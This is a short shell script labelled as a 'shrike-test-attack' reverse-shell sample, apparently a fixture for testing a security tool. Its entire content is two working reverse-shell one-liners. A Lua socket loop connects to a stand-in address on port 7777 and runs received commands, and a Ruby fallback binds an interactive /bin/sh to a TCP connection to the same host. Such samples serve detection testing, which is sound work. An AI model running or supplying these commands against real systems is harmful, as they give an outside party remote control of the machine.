#!/bin/sh
# shrike-test-attack: reverse-shell: lua socket shell and ruby fallback
lua -e "local s=require('socket');local t=assert(s.tcp());t:connect('192.0.2.31',7777);while true do local r,x=t:receive();local f=assert(io.popen(r,'r'));local b=assert(f:read('*a'));t:send(b);end;f:close();t:close();" 2>/dev/null ||
ruby -rsocket -e'f=TCPSocket.open("192.0.2.31",7777).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'
